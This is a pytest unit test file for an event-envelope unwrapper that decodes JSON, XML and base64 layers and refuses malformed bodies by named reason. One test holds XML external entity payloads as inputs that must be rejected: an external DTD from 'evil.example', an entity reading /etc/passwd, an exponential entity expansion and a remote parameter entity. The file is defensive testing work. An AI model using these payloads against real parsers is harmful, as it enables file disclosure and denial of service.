"""Envelopes: what wraps an event comes off, and what is not a wrapping is refused by name."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from consumer.core.envelope import MAX_BODY_CHARACTERS, unwrap
from consumer.core.errors import InvalidMessage
from tests.unit.bodies import (
    CURRENT,
    ENCODINGS,
    ENVELOPES,
    VARIANTS,
    base64_of,
    json_envelope,
    text_of,
    xml_envelope,
)

TEXT = text_of(CURRENT)


def reason(body: str) -> str:
    """The word a body is refused with."""
    with pytest.raises(InvalidMessage) as refused:
        unwrap(body)
    assert str(refused.value)
    return refused.value.reason


@pytest.mark.parametrize("variant", [name for name in VARIANTS if name != "eventbridge"])
@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("envelope", ENVELOPES)
def test_every_wrapping_comes_off(envelope: str, encoding: str, variant: str) -> None:
    """Every envelope in every encoding around every variant yields exactly the published object."""
    body = ENCODINGS[encoding](text_of(VARIANTS[variant]), ENVELOPES[envelope])
    assert unwrap(body) == VARIANTS[variant]


def test_a_cloud_event_is_unwrapped_to_its_data() -> None:
    """A CloudEvent around the event counts as one more wrapping."""
    assert unwrap(text_of(VARIANTS["eventbridge"])) == VARIANTS["eventbridge"]["data"]


@pytest.mark.parametrize("padding", ["\ufeff", " \r\n\t", "\ufeff \n"])
@pytest.mark.parametrize("body", [TEXT, base64_of(TEXT), xml_envelope(TEXT), json_envelope("\ufeff" + TEXT + "\n")])
def test_byte_order_marks_and_whitespace_around_a_layer_do_not_matter(body: str, padding: str) -> None:
    """A byte order mark or blank space before a layer, or blank space after it, changes nothing."""
    assert unwrap(f"{padding}{body}\r\n") == CURRENT


def test_base64_broken_into_lines_is_read() -> None:
    """MIME-style base64 with line breaks is the same text."""
    assert unwrap(base64.encodebytes(TEXT.encode()).decode()) == CURRENT


def test_the_documentations_malformed_sample_is_read() -> None:
    """The official XML sample misspells xmlns and closes an element with the wrong name after the message."""
    body = (
        '<?xml version="1.0" encoding="utf-8"?><Notification xlmns="http://mns.aliyuncs.com/doc/v1/">'
        "<TopicOwner>TopicOwner</TopicOwner><TopicName>TopicName</TopicName>"
        f"<MessageId>id</MessageId><Message>{base64_of(TEXT)}</Message><MessageMD5>md5</MessageMD5>"
        "<PublishTime>PublishTime</MessagePublishTime></Notification>"
    )
    assert unwrap(body) == CURRENT


def test_a_message_in_cdata_is_read() -> None:
    """Character data and entities are two spellings of the same message."""
    assert unwrap(f"<Notification><Message><![CDATA[{TEXT}]]></Message></Notification>") == CURRENT


@pytest.mark.parametrize("declared", ["utf-8", "ISO-8859-1", "gbk", "utf-16"])
def test_the_encoding_an_envelope_declares_is_not_applied_to_text(declared: str) -> None:
    """The body is text already, so an encoding declaration must not garble a localised rule name."""
    assert unwrap(xml_envelope(TEXT).replace("utf-8", declared, 1)) == CURRENT


@pytest.mark.parametrize("body", ["", " \n", "\ufeff", xml_envelope(""), json_envelope("  ")])
def test_an_empty_layer_is_named_empty(body: str) -> None:
    """Nothing inside is not an event."""
    assert reason(body) == "empty"


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("hello, world", "not_base64"),
        ("Zm9v!", "not_base64"),
        ("Zm9vYg", "not_base64"),
        ("使用专有网络", "not_base64"),
        ("\x00\x01", "not_base64"),
        (base64.b64encode(b"\xff\xfe{\x00}\x00").decode(), "not_utf8"),
        (base64.b64encode("规则".encode("gbk")).decode(), "not_utf8"),
        ("[]", "not_an_object"),
        ('"text"', "not_an_object"),
        (base64_of("[1]"), "not_an_object"),
        ("{", "not_json"),
        ("{'a': 1}", "not_json"),
        ('{"a": NaN}', "not_json"),
        ('{"a": -Infinity}', "not_json"),
        ('{"a": 1} {"b": 2}', "not_json"),
        ('{"a": ' + "9" * 5000 + "}", "not_json"),
        ('{"a": "\x00"}', "not_json"),
        ('{"a": 1, "a": 1}', "duplicate_key"),
        ('{"x": {"a": 1, "\\u0061": 2}}', "duplicate_key"),
        ("<a>", "not_xml"),
        ("<<", "not_xml"),
        ("<html><body>502 Bad Gateway</body></html>", "no_message"),
        ("<Message>e30=</Message>", "no_message"),
        ("<Notification><Deeper><Message>e30=</Message></Deeper></Notification>", "no_message"),
        ("<Notification><Message>e30=</Message><Message>e30=</Message></Notification>", "duplicate_key"),
        ("<Notification>" + "<a>" * 10_000, "nested_too_deep"),
        ("<Notification><Message>\ud800</Message></Notification>", "not_xml"),
        ("<Notification><Message>&#0;</Message></Notification>", "not_xml"),
    ],
)
def test_what_is_not_an_object_is_refused_by_name(body: str, expected: str) -> None:
    """Each way to be undecodable has its own word, for metrics and dead letters."""
    assert reason(body) == expected


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE Notification SYSTEM "http://evil.example/x.dtd">',
        '<!DOCTYPE Notification [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE n [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
        '<!DOCTYPE n [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>',
        "<!DOCTYPE n>",
    ],
)
def test_xml_that_declares_a_document_type_is_refused(declaration: str) -> None:
    """Entities, external documents and exponential expansions all begin with a document type: none is read."""
    body = f'<?xml version="1.0"?>{declaration}<Notification><Message>e30=</Message></Notification>'
    assert reason(body) == "xml_doctype"
    assert reason(base64_of(body)) == "xml_doctype"


def test_an_undeclared_entity_is_refused() -> None:
    """Only the five entities of XML itself mean anything."""
    assert reason("<Notification><Message>&secret;</Message></Notification>") == "not_xml"


@pytest.mark.parametrize("opening", ['{"a":', "["])
def test_json_nested_beyond_the_parser_is_refused(opening: str) -> None:
    """Nesting that exhausts the parser's stack is a refusal, never a crash."""
    assert reason('{"x":' + opening * 30_000) == "nested_too_deep"


def test_wrappings_end_somewhere() -> None:
    """A body wrapped in layer after layer is given up on."""
    body = TEXT
    for _ in range(7):
        body = base64_of(body)
    assert reason(body) == "too_many_layers"


def test_an_absurdly_large_body_is_turned_away_unread() -> None:
    """The service delivers 64 KiB at most; four times that was not sent by it."""
    assert reason("x" * (MAX_BODY_CHARACTERS + 1)) == "too_large"


@pytest.mark.parametrize("fill", ["A", "{", "<", "[", '{"a":', "\xff", "&lt;", "\x00"])
def test_the_largest_message_of_nonsense_is_refused(fill: str) -> None:
    """64 KiB of anything repeated ends in a reason."""
    assert reason((fill * 65_536)[:65_536])


@pytest.mark.parametrize("body", [TEXT, base64_of(TEXT), json_envelope(base64_of(TEXT)), base64_of(xml_envelope(TEXT))])
def test_no_proper_prefix_of_a_body_yields_another_object(body: str) -> None:
    """A truncated body is either refused or, once its message is whole, the same object: never a part of it."""
    for length in range(len(body)):
        try:
            found = unwrap(body[:length])
        except InvalidMessage:
            continue
        assert found == CURRENT


@given(st.dictionaries(st.text(), st.recursive(st.integers() | st.text() | st.none(), st.lists, max_leaves=5)))
def test_any_object_survives_every_wrapping(document: dict[str, object]) -> None:
    """Unwrapping is the inverse of wrapping for every JSON object that is no envelope itself."""
    text = text_of(document)
    for encode in ENCODINGS.values():
        try:
            assert unwrap(encode(text, json_envelope)) == document
        except UnicodeEncodeError:
            assert any(0xD800 <= ord(character) < 0xE000 for character in text)
